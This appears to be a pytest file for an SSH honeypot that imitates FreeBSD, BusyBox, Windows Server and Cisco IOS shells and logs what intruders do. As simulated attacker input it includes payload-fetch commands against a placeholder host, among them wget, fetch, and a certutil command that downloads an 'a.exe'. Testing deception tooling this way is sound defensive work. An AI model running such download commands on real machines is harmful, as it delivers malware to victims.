"""Personas that are not Linux distributions get their own OS's shell (FreeBSD, BusyBox, Windows, IOS)."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from decnet.fleet.persona import Persona
from decnet.services.ssh import ciscoshell, netcmds, winshell
from decnet.services.ssh.ciscoshell import CiscoShell
from decnet.services.ssh.system import System
from decnet.services.ssh.winshell import WindowsShell

from .conftest import login, make_persona
from .test_shell import Term

FREEBSD = dict(
    os_profile="bsd",
    os_family="bsd",
    distro="debian",
    distro_name="FreeBSD 14.1-RELEASE",
    kernel="14.1-RELEASE-p2",
    arch="amd64",
    ssh_banner="SSH-2.0-OpenSSH_9.7 FreeBSD-20240318",
    hostname="files-02",
)
BUSYBOX = dict(
    os_profile="embedded",
    os_family="embedded",
    distro="debian",
    distro_name="BusyBox v1.31.1",
    kernel="4.9.118",
    arch="armv7l",
    ssh_banner="SSH-2.0-dropbear_2020.81",
    cpu_count=2,
    cpu_model="ARMv7 Processor rev 1 (v7l)",
    mem_total_kb=253_150,
    hostname="cam-04",
    versions=(("busybox", "1.31.1"),),
)
WINDOWS = dict(
    os_profile="windows_server",
    os_family="windows",
    distro="debian",
    distro_name="Windows Server 2019 Standard",
    kernel="10.0.17763.5696",
    arch="AMD64",
    ssh_banner="SSH-2.0-OpenSSH_for_Windows_7.7",
    hostname="WEB-IIS-01",
    ssh_auth_fail_delay_s=0.0,
    versions=(("iis", "10.0"), ("windows_build", "17763")),
)
CISCO = dict(
    os_profile="cisco",
    os_family="cisco",
    distro="debian",
    distro_name="Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.2(7)E10, "
    "RELEASE SOFTWARE (fc1)",
    kernel="15.2(7)E10",
    arch="ppc",
    ssh_banner="SSH-2.0-Cisco-1.25",
    hostname="SW-CORE-01",
    versions=(("model", "WS-C2960X-48FPD-L"), ("serial", "FOC0754E007")),
)


@pytest.fixture(autouse=True)
def _fast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(netcmds, "CONNECT_DELAY_S", 0.01)
    monkeypatch.setattr(netcmds, "DNS_DELAY_S", 0.01)
    monkeypatch.setattr(winshell, "CONNECT_DELAY_S", 0.01)
    monkeypatch.setattr(ciscoshell, "LOOKUP_DELAY_S", 0.01)


async def run(shell: Any, line: str) -> str:
    out: list[str] = []

    async def write(text: str) -> None:
        out.append(text)

    await shell.run_line(line, write)
    return "".join(out)


async def test_freebsd_persona() -> None:
    term = Term(make_persona(**FREEBSD))
    assert term.shell.prompt() == "root@files-02:~ # "
    assert "Welcome to FreeBSD!" in term.shell.banner()
    assert (
        await term.run("uname -a")
        == "FreeBSD files-02 14.1-RELEASE-p2 FreeBSD 14.1-RELEASE-p2 GENERIC amd64\n"
    )
    assert await term.run("id") == "uid=0(root) gid=0(wheel) groups=0(wheel),5(operator)\n"
    assert "ID=freebsd" in await term.run("cat /etc/os-release")
    assert await term.run("cat /proc/cpuinfo") == "cat: /proc/cpuinfo: No such file or directory\n"
    assert await term.run("wget http://198.51.100.7/x") == "-sh: wget: not found\n"
    assert (
        await term.run("fetch http://198.51.100.7/y") == "fetch: http://198.51.100.7/y: Connection refused\n"
    )
    assert term.of("download")[-1]["tool"] == "fetch"
    assert "em0: flags=" in await term.run("ifconfig")
    assert "load averages:" in await term.run("uptime")
    assert await term.run("sysctl -n hw.ncpu") == "4\n"


async def test_busybox_persona() -> None:
    term = Term(make_persona(**BUSYBOX))
    assert term.shell.prompt() == "root@cam-04:~# "
    assert "BusyBox v1.31.1 () built-in shell (ash)" in term.shell.banner()
    assert (await term.run("uname -a")).startswith("Linux cam-04 4.9.118 #1 SMP PREEMPT ")
    assert "model name\t: ARMv7 Processor rev 1 (v7l)" in await term.run("cat /proc/cpuinfo")
    assert (await term.run("ps")).startswith("  PID USER       VSZ STAT COMMAND\n")
    assert "Link encap:Ethernet  HWaddr 00:50:56:12:34:56" in await term.run("ifconfig")
    assert await term.run("nosuch") == "-sh: nosuch: not found\n"
    out = await term.run("wget http://198.51.100.7/mips")
    assert (
        out
        == "Connecting to 198.51.100.7 (198.51.100.7:80)\nwget: can't connect to remote host (198.51.100.7): "
        "Connection refused\n"
    )


async def test_windows_persona() -> None:
    events: list[tuple[str, dict[str, str]]] = []
    persona = make_persona(**WINDOWS)
    shell = WindowsShell(
        System(persona, ["administrator"]),
        "administrator",
        src_ip="203.0.113.9",
        emit=lambda kind, fields: events.append((kind, fields)),
    )
    assert shell.banner().startswith("Microsoft Windows [Version 10.0.17763.5696]\n(c) 2018 Microsoft")
    assert shell.prompt() == "administrator@WEB-IIS-01 C:\\Users\\Administrator>"
    assert await run(shell, "whoami") == "web-iis-01\\administrator\n\n"
    assert "OS Name:                   Microsoft Windows Server 2019 Standard" in await run(
        shell, "systeminfo"
    )
    assert "IPv4 Address. . . . . . . . . . . : 192.168.1.110" in await run(shell, "ipconfig")
    assert await run(shell, "uname -a") == (
        "'uname' is not recognized as an internal or external command,\noperable program or batch file.\n\n"
    )
    await run(shell, "cd Desktop & certutil -urlcache -f http://198.51.100.7/a.exe a.exe")
    assert shell.cwd == "C:\\Users\\Administrator\\Desktop"
    downloads = [f for kind, f in events if kind == "download"]
    assert downloads == [
        {
            "url": "http://198.51.100.7/a.exe",
            "tool": "certutil",
            "cwd": shell.cwd,
            "username": "administrator",
            "command": "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
        }
    ]


async def test_cisco_persona() -> None:
    events: list[tuple[str, dict[str, str]]] = []

    async def secret(prompt: str) -> str:
        return "s3cret"

    persona = make_persona(**CISCO)
    shell = CiscoShell(
        System(persona, ["admin"]),
        "admin",
        emit=lambda kind, fields: events.append((kind, fields)),
        read_secret=secret,
    )
    assert shell.prompt() == "SW-CORE-01>"
    version = await run(shell, "sh ver")
    assert (
        version.startswith(persona.distro_name) and "System serial number            : FOC0754E007" in version
    )
    assert "% Invalid input detected at '^' marker." in await run(shell, "show running-config")
    assert "% Unknown command or computer name" in await run(shell, "wget")
    await run(shell, "enable")
    assert shell.prompt() == "SW-CORE-01#"
    assert (
        "auth",
        {"username": "admin", "password": "s3cret", "method": "enable", "result": "success"},
    ) in events
    assert await run(shell, "show run | include hostname") == "hostname SW-CORE-01\n"
    await run(shell, "conf t")
    assert shell.prompt() == "SW-CORE-01(config)#"


async def test_windows_persona_over_ssh(serve: Any) -> None:
    persona: Persona = make_persona(**WINDOWS)
    async with serve(persona=persona, users="administrator:P@ssw0rd") as (_svc, port, sink):
        async with await login(port, "administrator", "P@ssw0rd") as conn:
            assert conn.get_extra_info("server_version") == "SSH-2.0-OpenSSH_for_Windows_7.7"
            result = await conn.run("hostname & whoami")
            assert result.stdout == "WEB-IIS-01\nweb-iis-01\\administrator\n"
            proc = await conn.create_process(term_type="xterm")
            buf = ""
            while "C:\\Users\\Administrator>" not in buf:
                buf += await asyncio.wait_for(proc.stdout.read(4096), 5)
            assert buf.startswith("Microsoft Windows [Version 10.0.17763.5696]")
            proc.stdin.write("exit\r")
            await asyncio.wait_for(proc.wait_closed(), 5)
        await asyncio.sleep(0.1)
    assert [c.fields["command"] for c in sink.of("command")] == ["hostname & whoami", "exit"]
